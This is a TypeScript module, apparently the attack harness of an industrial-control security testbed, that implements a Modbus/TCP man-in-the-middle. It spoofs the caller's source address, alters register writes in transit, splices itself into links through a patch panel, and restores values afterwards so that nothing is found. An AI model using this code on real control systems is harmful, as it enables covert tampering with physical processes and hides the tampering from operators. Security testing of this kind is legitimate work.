import { connect, createServer, type Server, type Socket } from "node:net";
import { readJsonLines, writeJsonLine } from "#plc-guard/json-lines.ts";
import { encodeRequest, holdingRegisterAddress, MbapFramer } from "#wire/modbus/index.ts";
import { dialFrom } from "../access-switch/dial-from.ts";
import type { Endpoint, PortRange } from "../address-plan.ts";
import { type AttackLog, says } from "./attack-log.ts";
import { type Draw, TARGETS, toRaw } from "./draw.ts";
import { ModbusMaster } from "./modbus-master.ts";
import { Tamperer } from "./tamper.ts";

export interface ManInTheMiddleOptions {
  /** Where the box stands; the system chooses its port. */
  readonly host: string;
  /** Server that the link leads to. */
  readonly target: Endpoint;
  readonly tampering: NonNullable<Draw["tamper"]>;
  /** Where ports tell devices apart: those of the station it poses as. */
  readonly sourcePorts?: PortRange;
  readonly now: () => number;
  readonly log: AttackLog;
}

export interface ManInTheMiddle {
  readonly at: Endpoint;
  /** Sends the server what the operator last meant, so that nothing is found when the box is gone. */
  putBack(): Promise<void>;
  close(): Promise<void>;
}

/** What the box has changed last. */
interface Trace {
  from: string | undefined;
  was: number | undefined;
}

const MAX_CONNECTIONS = 16;
const MAX_LINE_BYTES = 1024;
const PATCH_TIMEOUT_MS = 2000;

/** A box in a cable: it takes connections, goes on to the server with the caller's own address, and tampers on the way. */
export async function runManInTheMiddle(options: ManInTheMiddleOptions): Promise<ManInTheMiddle> {
  const sockets = new Set<Socket>();
  const trace: Trace = { from: undefined, was: undefined };
  const server: Server = createServer({ noDelay: true, allowHalfOpen: true, pauseOnConnect: true }, (near) => {
    void open(near, options, sockets, trace);
  });
  server.maxConnections = MAX_CONNECTIONS;
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, options.host, resolve);
  });
  const address = server.address();
  if (typeof address !== "object" || address === null) throw new Error("unreachable: a TCP server without an address");
  return {
    at: { host: options.host, port: address.port },
    putBack: () => putBack(options, trace),
    close: () => {
      for (const socket of sockets) socket.resetAndDestroy();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

async function putBack(options: ManInTheMiddleOptions, { from, was }: Trace): Promise<void> {
  if (from === undefined || was === undefined) return;
  const { tag } = options.tampering;
  const { unit, address } = TARGETS[tag];
  const { target, sourcePorts, now, log } = options;
  const master = new ModbusMaster(target, {
    address: from,
    ...(sourcePorts === undefined ? {} : { ports: sourcePorts }),
  });
  const pdu = encodeRequest({
    kind: "write-single-register",
    functionCode: 6,
    address: holdingRegisterAddress(address),
    value: toRaw(tag, was),
  });
  const atMs = now();
  const answer = await master.request(unit, pdu);
  log({ atMs, action: "put back by FC6", tag, value: null, answer: answer.says });
  master.close();
}

async function open(near: Socket, options: ManInTheMiddleOptions, sockets: Set<Socket>, trace: Trace): Promise<void> {
  const { target, sourcePorts, now, log } = options;
  track(near, sockets);
  const source = {
    address: near.remoteAddress ?? options.host,
    ...(sourcePorts === undefined ? {} : { ports: sourcePorts }),
  };
  try {
    const far = await dialFrom(target, source);
    track(far, sockets);
    const tamperer = new Tamperer(options.tampering);
    carry(near, far, (frame) => {
      const { bytes, changed } = tamperer.request(frame);
      if (changed !== undefined) {
        const { action, value, was } = changed;
        trace.from = near.remoteAddress;
        trace.was = was;
        log({ atMs: now(), action, tag: options.tampering.tag, value, answer: `sent on in place of ${was}` });
      }
      return bytes;
    });
    carry(far, near, (frame) => tamperer.response(frame));
    near.resume();
  } catch (error) {
    log({ atMs: now(), action: "dial", tag: null, value: null, answer: says(error) });
    near.resetAndDestroy();
  }
}

function track(socket: Socket, sockets: Set<Socket>): void {
  sockets.add(socket);
  socket.on("error", () => socket.destroy());
  socket.on("close", () => sockets.delete(socket));
}

/** Carries frames one way. A slow side pauses the other; a half-close and a reset are passed on as such. */
function carry(from: Socket, to: Socket, change: (frame: Parameters<Tamperer["response"]>[0]) => Buffer): void {
  const framer = new MbapFramer();
  from.on("data", (chunk: Buffer) => {
    for (const frame of framer.push(chunk)) {
      if (!to.write(change(frame))) from.pause();
    }
    // What is no Modbus cannot be carried frame by frame; the link breaks, as it would with a cheap box.
    if (framer.state.kind === "failed") from.resetAndDestroy();
  });
  to.on("drain", () => from.resume());
  from.on("end", () => to.end());
  from.on("close", (failed) => {
    if ((failed || !from.readableEnded) && !to.destroyed) to.resetAndDestroy();
  });
}

/** Asks the patch panel of the access switch; resolves with what it answered. `via` undefined: take the box out again. */
export function patchLink(panel: Endpoint, link: string, via: Endpoint | undefined): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ ...panel, noDelay: true });
    const timer = setTimeout(() => finish("no answer"), PATCH_TIMEOUT_MS);
    const finish = (answer: string): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(answer);
    };
    socket.on("connect", () => {
      writeJsonLine(
        socket,
        via === undefined ? { unpatch: { link } } : { patch: { link, via: `${via.host}:${via.port}` } },
      );
    });
    socket.on("error", (error) => finish(error.message));
    socket.on("close", () => finish("closed"));
    readJsonLines(socket, {
      maxLineBytes: MAX_LINE_BYTES,
      onValue: (value) =>
        finish(typeof value === "object" && value !== null && "patched" in value ? "ok" : JSON.stringify(value)),
    });
  });
}
